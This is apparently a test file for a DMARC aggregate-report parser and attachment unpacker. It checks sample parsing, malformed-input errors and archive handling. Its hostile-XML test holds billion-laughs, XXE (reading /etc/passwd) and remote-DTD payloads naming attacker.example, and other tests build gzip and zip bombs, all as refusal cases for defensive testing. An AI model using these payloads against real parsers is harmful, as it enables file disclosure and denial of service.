/**
 * Reading DMARC aggregate reports (RFC 7489 Appendix C): Google's and Microsoft's samples (tests/fixtures/dmarc/)
 * parsed field by field; hostile XML (DOCTYPE, entity declarations, external entities) and malformed reports refused;
 * gzip and zip attachments inflated within the limit, and bombs — honest or lying about their size — refused.
 */
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { DMARC_MAX_ELEMENTS, DmarcRefused, normalizeIp, parseDmarcXml, readDmarcMessage, unpackDmarcAttachment, type DmarcReport } from './dmarc.ts';
import { readFixture } from '../../../../tests/helpers/fixtures.ts';
import { DMARC_SAMPLES, sampleEmail, sampleReport } from '../../../../tests/helpers/dmarc.ts';
import { zip } from '../../../../tests/helpers/zip.ts';

const google = () => readFixture(DMARC_SAMPLES.google.file);
const microsoft = () => readFixture(DMARC_SAMPLES.microsoft.file);

/** refusal: the DmarcRefused reason `fn` throws (or rejects with). */
async function refusal(fn: () => unknown): Promise<string> {
  try {
    await fn();
  } catch (err) {
    if (err instanceof DmarcRefused) return err.reason;
    throw err;
  }
  throw new Error('not refused');
}

/** A minimal valid report around `records` (each a <record> element's inner XML). */
const minimal = (records: string[], head = '') =>
  `<?xml version="1.0"?>${head}<feedback><report_metadata><org_name>x.example</org_name><report_id>1</report_id>` +
  `<date_range><begin>1764201600</begin><end>1764287999</end></date_range></report_metadata>` +
  `<policy_published><domain>shop.example</domain><p>none</p></policy_published>${records.map((r) => `<record>${r}</record>`).join('')}</feedback>`;
const row = (ip = '192.0.2.1', count = '1', disposition = 'none', dkim = 'pass', spf = 'fail') =>
  `<row><source_ip>${ip}</source_ip><count>${count}</count><policy_evaluated><disposition>${disposition}</disposition><dkim>${dkim}</dkim><spf>${spf}</spf></policy_evaluated></row><identifiers><header_from>shop.example</header_from></identifiers>`;

describe('parseDmarcXml', () => {
  it("reads Google's report: metadata, published policy and every row with its first DKIM and SPF results", () => {
    const r = parseDmarcXml(google());
    expect(r).toMatchObject<Partial<DmarcReport>>({
      orgName: 'google.com',
      orgEmail: 'noreply-dmarc-support@google.com',
      reportId: '3810472953612758214',
      begin: new Date('2025-11-27T00:00:00Z'),
      end: new Date('2025-11-27T23:59:59Z'),
      domain: 'shop.example',
      policy: { adkim: 'r', aspf: 'r', p: 'quarantine', sp: 'quarantine', pct: '100', np: 'quarantine' },
    });
    expect(r.records).toEqual([
      {
        sourceIp: '127.0.0.1',
        count: 40,
        disposition: 'none',
        dkim: 'pass',
        spf: 'pass',
        headerFrom: 'shop.example',
        dkimDomain: 'shop.example',
        dkimResult: 'pass',
        spfDomain: 'bounces.shop.example',
        spfResult: 'pass',
      },
      {
        sourceIp: '209.85.220.41',
        count: 12,
        disposition: 'none',
        dkim: 'pass',
        spf: 'fail',
        headerFrom: 'shop.example',
        dkimDomain: 'shop.example',
        dkimResult: 'pass',
        spfDomain: 'lists.partner.example',
        spfResult: 'pass',
      },
      {
        sourceIp: '203.0.113.45',
        count: 5,
        disposition: 'quarantine',
        dkim: 'fail',
        spf: 'fail',
        headerFrom: 'shop.example',
        dkimDomain: null,
        dkimResult: null,
        spfDomain: 'shop.example',
        spfResult: 'softfail',
      },
    ]);
  });

  it("reads Microsoft's report with its XML Schema namespaces and version, and an IPv6 source", () => {
    const r = parseDmarcXml(microsoft());
    expect(r).toMatchObject({
      orgName: 'Outlook.com',
      orgEmail: 'dmarcreport@microsoft.com',
      reportId: 'b2d7f1c04e9a4c1b8a5f3e6d2c1b0a99',
      domain: 'shop.example',
    });
    expect(r.policy).toEqual({ adkim: 'r', aspf: 'r', p: 'quarantine', sp: 'quarantine', pct: '100', fo: '0' });
    expect(r.records.map((x) => [x.sourceIp, x.count, x.disposition, x.dkim, x.spf, x.dkimDomain, x.spfDomain])).toEqual([
      ['127.0.0.1', 25, 'none', 'pass', 'pass', 'shop.example', 'bounces.shop.example'],
      ['198.51.100.7', 3, 'quarantine', 'fail', 'fail', null, 'shop.example'],
      ['2a01:111:f403:2612::701', 8, 'none', 'fail', 'pass', 'shopexample.onmicrosoft.com', 'shop.example'],
    ]);
  });

  it('matches elements by local name, whatever namespace or prefix the reporter uses; values in any case', () => {
    const ns = minimal([row('::ffff:192.0.2.9', '7', 'Reject', 'FAIL', 'Fail')]).replace('<feedback>', '<feedback xmlns="urn:ietf:params:xml:ns:dmarc-2.0">');
    expect(parseDmarcXml(ns).records[0]).toMatchObject({ sourceIp: '192.0.2.9', count: 7, disposition: 'reject', dkim: 'fail', spf: 'fail' });
    const prefixed = minimal([row()])
      .replace(/<(\/?)([a-z_]+)>/g, '<$1d:$2>')
      .replace('<d:feedback>', '<d:feedback xmlns:d="http://dmarc.org/dmarc-xml/0.1">');
    expect(parseDmarcXml(prefixed).records).toHaveLength(1);
    // A CDATA section and predefined entities are text like any other.
    expect(parseDmarcXml(minimal([row()]).replace('<org_name>x.example', '<org_name><![CDATA[A&B]]> &amp; co')).orgName).toBe('A&B & co');
  });

  it('refuses a DOCTYPE and entity declarations: billion laughs, external entities (XXE), parameter entities', async () => {
    const laughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>${minimal([row()]).replace('x.example', '&lol2;').replace('<?xml version="1.0"?>', '')}`;
    const xxe = minimal([row()], '<!DOCTYPE feedback [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>').replace('x.example', '&xxe;');
    const param = minimal([row()], '<!doctype feedback [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>');
    const bare = minimal([row()], '<!DOCTYPE feedback SYSTEM "http://attacker.example/dmarc.dtd">');
    for (const xml of [laughs, xxe, param, bare]) expect(await refusal(() => parseDmarcXml(xml))).toBe('hostile');
    // An entity never declared is an error of the strict parser, not expanded from anywhere.
    expect(await refusal(() => parseDmarcXml(minimal([row()]).replace('x.example', '&xxe;')))).toBe('malformed');
  });

  it('refuses a report of millions of empty elements (a small gzip) before holding them all', async () => {
    const flood = `<?xml version="1.0"?><feedback>${'<x/>'.repeat(DMARC_MAX_ELEMENTS + 1)}</feedback>`;
    expect(gzipSync(flood).length).toBeLessThan(100_000);
    expect(await refusal(() => parseDmarcXml(flood))).toBe('too_large');
  });

  it('refuses malformed XML and reports missing a required field or with an invalid one, naming it', async () => {
    const cases: Array<[string, string]> = [
      ['<feedback><report_metadata>', 'not well-formed'],
      ['<?xml version="1.0"?><report/>', 'root element is report'],
      [minimal([row()]).replace('<report_id>1</report_id>', ''), 'no report_metadata/report_id'],
      [minimal([row()]).replace(/<org_name>[^<]*<\/org_name>/, '<org_name> </org_name>'), 'no report_metadata/org_name'],
      [minimal([row()]).replace('<domain>shop.example</domain>', ''), 'no policy_published/domain'],
      [minimal([row()]).replace('<begin>1764201600</begin>', '<begin>yesterday</begin>'), 'date_range/begin is not seconds'],
      [minimal([row()]).replace('<end>1764287999</end>', '<end>1</end>'), 'ends before it begins'],
      [minimal([]), 'no record'],
      [minimal([row('999.1.1.1')]), 'source_ip is not an IP address'],
      [minimal([row('192.0.2.1', '-3')]), 'count is not a count'],
      [minimal([row('192.0.2.1', '99999999999')]), 'count is not a count'],
      [minimal([row('192.0.2.1', '1', 'discard')]), 'disposition is not none, quarantine, reject'],
      [minimal([row('192.0.2.1', '1', 'none', 'softfail')]), 'policy_evaluated/dkim is not pass, fail'],
      [minimal([row().replace(/<identifiers>.*<\/identifiers>/, '')]), 'no record/identifiers/header_from'],
    ];
    for (const [xml, words] of cases) {
      let message = '';
      try {
        parseDmarcXml(xml);
      } catch (err) {
        expect(err).toBeInstanceOf(DmarcRefused);
        expect((err as DmarcRefused).reason).toBe('malformed');
        message = (err as Error).message;
      }
      expect(message, xml).toContain(words);
    }
  });
});

describe('unpackDmarcAttachment', () => {
  const xml = minimal([row()]);
  const LIMIT = 1024 * 1024;

  it('inflates gzip and zip by their content (not their names), and takes plain XML as it is', async () => {
    expect(await unpackDmarcAttachment(gzipSync(xml), LIMIT)).toBe(xml);
    expect(
      await unpackDmarcAttachment(
        zip([
          { name: 'readme.txt', data: Buffer.from('hi') },
          { name: 'r.xml', data: Buffer.from(xml) },
        ]),
        LIMIT,
      ),
    ).toBe(xml);
    expect(await unpackDmarcAttachment(Buffer.from(xml), LIMIT)).toBe(xml);
  });

  it('refuses bombs on the bytes inflated: gzip, a zip that declares its size, and a zip that lies about it', async () => {
    const zeros = Buffer.alloc(LIMIT + 1);
    const gz = gzipSync(zeros, { level: 9 });
    expect(gz.length).toBeLessThan(5000);
    expect(await refusal(() => unpackDmarcAttachment(gz, LIMIT))).toBe('too_large');
    expect(await refusal(() => unpackDmarcAttachment(zip([{ name: 'bomb.xml', data: zeros }]), LIMIT))).toBe('too_large');
    // The headers say 100 bytes: the inflation itself is stopped (yauzl's size check or ours), not trusted.
    const liar = zip([{ name: 'bomb.xml', data: zeros, declaredSize: 100 }]);
    expect(await refusal(() => unpackDmarcAttachment(liar, LIMIT))).toBe('too_large');
    const liarAtLimit = zip([{ name: 'bomb.xml', data: zeros, declaredSize: LIMIT }]);
    expect(await refusal(() => unpackDmarcAttachment(liarAtLimit, LIMIT))).toBe('too_large');
    expect(await refusal(() => unpackDmarcAttachment(Buffer.from(`<a>${'x'.repeat(LIMIT)}</a>`), LIMIT))).toBe('too_large');
  });

  it('refuses broken archives and a zip without an .xml file', async () => {
    expect(await refusal(() => unpackDmarcAttachment(gzipSync(xml).subarray(0, 30), LIMIT))).toBe('malformed');
    expect(await refusal(() => unpackDmarcAttachment(zip([{ name: 'r.xml', data: Buffer.from(xml) }]).subarray(0, 60), LIMIT))).toBe('malformed');
    expect(await refusal(() => unpackDmarcAttachment(zip([{ name: 'r.txt', data: Buffer.from(xml) }]), LIMIT))).toBe('no_report');
  });
});

describe('readDmarcMessage', () => {
  it("reads Google's zipped and Microsoft's gzipped report from the emails they send", async () => {
    const g = sampleReport('google', '2026-11-20');
    const m = sampleReport('microsoft', '2026-11-19');
    const fromGoogle = await readDmarcMessage(Buffer.from(sampleEmail('google', g, 'dmarc@bounces.shop.example')));
    expect(fromGoogle).toMatchObject({ orgName: 'google.com', begin: new Date('2026-11-20T00:00:00Z'), end: new Date('2026-11-20T23:59:59Z') });
    expect(fromGoogle.records).toHaveLength(3);
    const fromMicrosoft = await readDmarcMessage(Buffer.from(sampleEmail('microsoft', m, 'dmarc@bounces.shop.example')));
    expect(fromMicrosoft).toMatchObject({ orgName: 'Outlook.com', begin: new Date('2026-11-19T00:00:00Z') });
    expect(fromMicrosoft.records.reduce((n, r) => n + r.count, 0)).toBe(36);
  });

  it('refuses an email without a report', async () => {
    const raw = 'From: a@b.example\r\nTo: dmarc@bounces.shop.example\r\nSubject: hi\r\n\r\nNo report here.\r\n';
    expect(await refusal(() => readDmarcMessage(Buffer.from(raw)))).toBe('no_report');
  });
});

describe('normalizeIp', () => {
  it('writes addresses canonically, IPv4-mapped IPv6 as IPv4; undefined for anything else', () => {
    expect(normalizeIp(' 192.0.2.1 ')).toBe('192.0.2.1');
    expect(normalizeIp('::FFFF:192.0.2.1')).toBe('192.0.2.1');
    expect(normalizeIp('2001:DB8:0:0:0:0:0:1')).toBe('2001:db8::1');
    expect(normalizeIp('mail.example')).toBeUndefined();
  });
});
